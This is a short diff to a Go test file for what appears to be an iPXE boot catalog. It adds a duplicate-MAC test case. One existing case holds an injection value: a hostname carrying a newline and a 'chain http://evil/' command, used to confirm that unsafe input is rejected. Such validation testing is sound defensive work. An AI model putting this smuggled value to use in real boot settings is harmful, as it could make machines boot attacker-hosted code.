@@ -136,6 +136,7 @@ func TestNewCatalogRejects(t *testing.T) {
 		"short MAC":          {[]Profile{f.profile("a", net.HardwareAddr{1})}, nil, ErrInvalidProfile, []string{"6 bytes"}},
 		"injecting hostname": {nil, []Host{{MAC: m1, Hostname: "x\nchain http://evil/"}}, ipxe.ErrUnsafe, []string{"52:54:00:00:00:01", "hostname"}},
 		"reserved twice":     {nil, []Host{{MAC: m1, Hostname: "a"}, {MAC: m1, Hostname: "b"}}, ErrInvalidHost, []string{"twice"}},
+		"twice, no names":    {nil, []Host{{MAC: m1}, {MAC: m1}}, ErrInvalidHost, []string{"twice"}},
 	} {
 		cat, err := NewCatalog(tc.profiles, tc.hosts)
 		if cat != nil || !errors.Is(err, tc.sentinel) {
